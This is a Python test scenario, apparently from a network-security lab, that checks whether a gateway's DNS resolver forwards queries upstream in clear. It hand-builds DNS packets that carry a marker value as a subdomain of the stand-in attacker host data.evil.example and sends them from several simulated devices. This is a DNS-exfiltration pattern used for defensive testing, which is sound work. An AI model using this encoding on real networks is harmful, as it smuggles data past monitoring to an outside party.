"""A device asks the gateway's resolver for data.evil.example, and the query goes upstream in clear."""

from __future__ import annotations

import socket

from lab import provider
from lab import topology as net
from scenario import CAMERA, INTRUDER, THERMOSTAT, Scene

SEEN = "marker as text readable"
STOCK = True


def _query(scene: Scene) -> bytes:
    labels = [scene.lab.marker.hex().encode(), b"data", b"evil", b"example"]
    return b"\0\x37\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(label)]) + label for label in labels) + b"\0\0\1\0\1"


def attack(scene: Scene) -> None:
    directory = scene.lab.directory / "resolver"
    with provider.resolver(scene.gateway, directory):
        for device in (THERMOSTAT, CAMERA, INTRUDER):
            for server in (net.GATEWAY_LAN4, net.GATEWAY_LAN6):
                with scene.of(device).socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as sock:
                    for _ in range(2):
                        sock.sendto(_query(scene), (server, 53))
        # What the resolver would ask by itself, were it talked into it in another way.
        with scene.gateway.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(_query(scene), (net.GATEWAY_LAN4, 53))
        scene.sleep(0.3)
